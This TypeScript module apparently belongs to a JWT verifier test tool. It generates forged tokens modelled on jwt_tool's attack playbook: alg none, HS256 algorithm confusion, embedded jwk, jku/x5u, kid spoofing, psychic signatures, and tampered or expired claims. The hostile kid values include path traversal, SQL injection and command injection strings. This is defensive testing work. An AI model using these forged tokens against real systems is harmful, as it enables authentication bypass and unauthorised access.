import { createSecretKey, generateKeyPairSync, type KeyObject } from 'node:crypto';
import type { Expectations } from '../expectations.ts';
import { ALGORITHMS } from '../keys/algorithms.ts';
import { b64urlJson } from '../mint/encode.ts';
import { signJws } from '../mint/sign_jws.ts';
import { selfSignedCertificate } from './attacker_cert.ts';
import { drillClaims, drillHeader } from './claims.ts';
import type { DrillSigner } from './drill_signer.ts';

/**
 * The forged tokens of the attacks drill, as ticarpi/jwt_tool's
 * playbook sends them (-X a, -X n, -X k, -X i, -X s, -I -hc kid, -T).
 * Every one must be rejected by an RFC 8725 verifier; the section of RFC
 * 8725 (or the CVE) each one tests is in ATTACKS.
 */

/** A forged token and, for jku / x5u, the document the drill's listener serves and watches. */
export interface Attack {
  name: string;
  token: string;
  /** The listener path the token points the verifier at (a fetch there is recorded). */
  fetchPath?: string;
  document?: { body: string; type: string };
}

/** The attacker: a key pair the target never trusted, its JWK and a self-signed certificate. */
export interface Attacker {
  kid: string;
  privateKey: KeyObject;
  jwk: Record<string, unknown>;
  certificate: string;
}

export interface AttackInput {
  env: Expectations;
  /** Signs tokens the target accepts (the baseline; tampered, expired, crit tokens start from one). */
  signer: DrillSigner;
  /** The environment's asymmetric public keys (algorithm-confusion secrets). */
  publicKeys: ReadonlyArray<{ kid?: string; key: KeyObject }>;
  attacker: Attacker;
  /** The drill listener's base URL (jku / x5u point there). */
  listenerUrl: string;
  /** Seconds. */
  now: number;
}

/** Every attack family: its name pattern and what it proves when rejected. Docs are generated from this table. */
export const ATTACKS: ReadonlyArray<{ name: string; what: string }> = [
  {
    name: 'alg_none:{none,None,NONE,nOnE}',
    what: 'unsecured JWS in every spelling, empty signature (RFC 8725 section 3.1, CVE-2015-9235)',
  },
  { name: 'empty_signature', what: "the environment's alg with the signature segment removed (jwt_tool -X n)" },
  { name: 'hs256_blank_secret', what: 'HS256 keyed with an empty secret (jwt_tool -X b)' },
  {
    name: 'hs256_public_key:{pem,pem_no_newline,pkcs1_pem,der,jwk_json}',
    what: "algorithm confusion: HS256 keyed with the environment's public key in its common encodings (RFC 8725 section 2.1, CVE-2016-10555)",
  },
  { name: 'embedded_jwk', what: 'signed by an attacker key carried in the jwk header (RFC 8725 section 3.10, CVE-2018-0114)' },
  { name: 'jku', what: "signed by an attacker key whose JWK Set the jku header points at the drill's listener; a fetch is recorded" },
  {
    name: 'x5u',
    what: "signed by an attacker key whose self-signed certificate the x5u header points at the drill's listener; a fetch is recorded",
  },
  { name: 'kid_spoofing', what: "signed by an attacker key under the kid of the environment's key" },
  {
    name: 'kid:{path_traversal,dev_null,sql_injection,command_injection}',
    what: 'hostile kid values with HS256 keyed by what the injection would yield (jwt_tool -I -hc kid)',
  },
  { name: 'tampered_payload', what: 'a valid token whose payload was changed (sub admin) under the original signature' },
  { name: 'expired', what: 'validly signed, exp an hour beyond the tolerance (RFC 7519 section 4.1.4)' },
  { name: 'not_yet_valid', what: 'validly signed, nbf an hour beyond the tolerance (RFC 7519 section 4.1.5)' },
  { name: 'unknown_crit', what: 'validly signed with a crit header member the verifier cannot understand (RFC 7515 section 4.1.11)' },
  { name: 'psychic_signature:{p1363,der}', what: 'ES256 with r = s = 0 (CVE-2022-21449)' },
];

const compact = (header: Record<string, unknown>, payload: Record<string, unknown>, signature: string): string =>
  `${b64urlJson(header)}.${b64urlJson(payload)}.${signature}`;

function hmac(header: Record<string, unknown>, payload: Record<string, unknown>, secret: Buffer | string): string {
  const input = `${b64urlJson(header)}.${b64urlJson(payload)}`;
  // HS256 keyed with whatever the attack names (the public key's bytes, a blank, a file's contents): the shared signer, any secret.
  return `${input}.${signJws(ALGORITHMS.HS256!, createSecretKey(Buffer.from(secret)), input).toString('base64url')}`;
}

function signAttacker(attacker: Attacker, header: Record<string, unknown>, payload: Record<string, unknown>): string {
  const input = `${b64urlJson(header)}.${b64urlJson(payload)}`;
  return `${input}.${signJws(ALGORITHMS.RS256!, attacker.privateKey, input).toString('base64url')}`;
}

/**
 * A fresh attacker key (RSA 2048, RS256) and its certificate.
 *
 * @example const attacker = makeAttacker(Date.now() / 1000);
 */
export function makeAttacker(now: number): Attacker {
  const pair = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const kid = 'jwt-doctor-drill-attacker';
  const jwk = { ...(pair.publicKey.export({ format: 'jwk' }) as Record<string, unknown>), kid, alg: 'RS256', use: 'sig' };
  return {
    kid,
    privateKey: pair.privateKey,
    jwk,
    certificate: selfSignedCertificate(pair.privateKey, pair.publicKey, 'jwt-doctor drill attacker', Math.floor(now)),
  };
}

/** The encodings a confused verifier may use as the HMAC secret (jwt_tool -X k tries the PEM). */
function publicKeyEncodings(key: KeyObject): Array<[string, Buffer | string]> {
  const pem = key.export({ format: 'pem', type: 'spki' }).toString();
  const out: Array<[string, Buffer | string]> = [
    ['pem', pem],
    ['pem_no_newline', pem.trimEnd()],
    ['der', key.export({ format: 'der', type: 'spki' })],
    ['jwk_json', JSON.stringify(key.export({ format: 'jwk' }))],
  ];
  if (key.asymmetricKeyType === 'rsa') out.splice(2, 0, ['pkcs1_pem', key.export({ format: 'pem', type: 'pkcs1' }).toString()]);
  return out;
}

function unsignedAttacks(input: AttackInput, claims: Record<string, unknown>): Attack[] {
  const header = drillHeader(input.env, input.signer);
  const out: Attack[] = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
    name: `alg_none:${alg}`,
    token: compact({ ...header, alg }, claims, ''),
  }));
  out.push({ name: 'empty_signature', token: compact(header, claims, '') });
  out.push({ name: 'hs256_blank_secret', token: hmac({ ...header, alg: 'HS256' }, claims, '') });
  // CVE-2022-21449: Java 15-18 accepted r = s = 0 for any ES256 message.
  const esHeader = { ...header, alg: 'ES256' };
  out.push({ name: 'psychic_signature:p1363', token: compact(esHeader, claims, Buffer.alloc(64).toString('base64url')) });
  out.push({
    name: 'psychic_signature:der',
    token: compact(esHeader, claims, Buffer.from('3006020100020100', 'hex').toString('base64url')),
  });
  return out;
}

function confusionAttacks(input: AttackInput, claims: Record<string, unknown>): Attack[] {
  const several = input.publicKeys.length > 1;
  return input.publicKeys.flatMap(({ kid, key }, i) =>
    publicKeyEncodings(key).map(([encoding, secret]) => ({
      name: `hs256_public_key:${encoding}${several ? `@${kid ?? i}` : ''}`,
      token: hmac({ alg: 'HS256', typ: input.env.typ ?? 'JWT', ...(kid !== undefined ? { kid } : {}) }, claims, secret),
    })),
  );
}

function attackerKeyAttacks(input: AttackInput, claims: Record<string, unknown>, routeIndex: number): Attack[] {
  const { attacker, env } = input;
  const typ = env.typ ?? 'JWT';
  const jkuPath = `/.well-known/jwt-doctor/drill/jku/${routeIndex}.json`;
  const x5uPath = `/.well-known/jwt-doctor/drill/x5u/${routeIndex}.pem`;
  const spoofedKid = input.signer.kid ?? input.publicKeys[0]?.kid ?? 'jwt-doctor-drill';
  return [
    { name: 'embedded_jwk', token: signAttacker(attacker, { alg: 'RS256', typ, kid: attacker.kid, jwk: attacker.jwk }, claims) },
    {
      name: 'jku',
      token: signAttacker(attacker, { alg: 'RS256', typ, kid: attacker.kid, jku: input.listenerUrl + jkuPath }, claims),
      fetchPath: jkuPath,
      document: { body: JSON.stringify({ keys: [attacker.jwk] }), type: 'application/json' },
    },
    {
      name: 'x5u',
      token: signAttacker(attacker, { alg: 'RS256', typ, x5u: input.listenerUrl + x5uPath }, claims),
      fetchPath: x5uPath,
      document: { body: attacker.certificate, type: 'application/pem-certificate-chain' },
    },
    { name: 'kid_spoofing', token: signAttacker(attacker, { alg: 'RS256', typ, kid: spoofedKid }, claims) },
  ];
}

function hostileKidAttacks(input: AttackInput, claims: Record<string, unknown>): Attack[] {
  const typ = input.env.typ ?? 'JWT';
  // What a kid-to-file or kid-to-SQL lookup would return: /dev/null is empty, the injection selects a known string.
  const kids: Array<[string, string, string]> = [
    ['path_traversal', '../../../../../../../../dev/null', ''],
    ['dev_null', '/dev/null', ''],
    ['sql_injection', "x' UNION SELECT 'jwt-doctor-drill';--", 'jwt-doctor-drill'],
    ['command_injection', 'x|echo jwt-doctor-drill', 'jwt-doctor-drill'],
  ];
  return kids.map(([name, kid, secret]) => ({ name: `kid:${name}`, token: hmac({ alg: 'HS256', typ, kid }, claims, secret) }));
}

function signerAttacks(input: AttackInput, claims: Record<string, unknown>): Attack[] {
  const { signer, env, now } = input;
  const header = drillHeader(env, signer);
  const tol = env.clockToleranceSeconds ?? 0;
  const valid = signer.sign(header, claims);
  const [h, , s] = valid.split('.');
  return [
    { name: 'tampered_payload', token: `${h}.${b64urlJson({ ...claims, sub: 'admin', admin: true })}.${s}` },
    { name: 'expired', token: signer.sign(header, { ...claims, iat: now - tol - 7200, exp: now - tol - 3600 }) },
    { name: 'not_yet_valid', token: signer.sign(header, { ...claims, nbf: now + tol + 3600, exp: now + tol + 7200 }) },
    { name: 'unknown_crit', token: signer.sign({ ...header, crit: ['x-jwt-doctor-drill'], 'x-jwt-doctor-drill': true }, claims) },
  ];
}

/**
 * Every forged token for one route (`routeIndex` makes the jku / x5u
 * URLs unique per route, so a fetch is attributed to the route that
 * caused it).
 *
 * @example buildAttacks(input, 0).map((a) => a.name) // ['alg_none:none', ..., 'unknown_crit']
 */
export function buildAttacks(input: AttackInput, routeIndex: number): Attack[] {
  const claims = drillClaims(input.env, input.now);
  return [
    ...unsignedAttacks(input, claims),
    ...confusionAttacks(input, claims),
    ...attackerKeyAttacks(input, claims, routeIndex),
    ...hostileKidAttacks(input, claims),
    ...signerAttacks(input, claims),
  ];
}
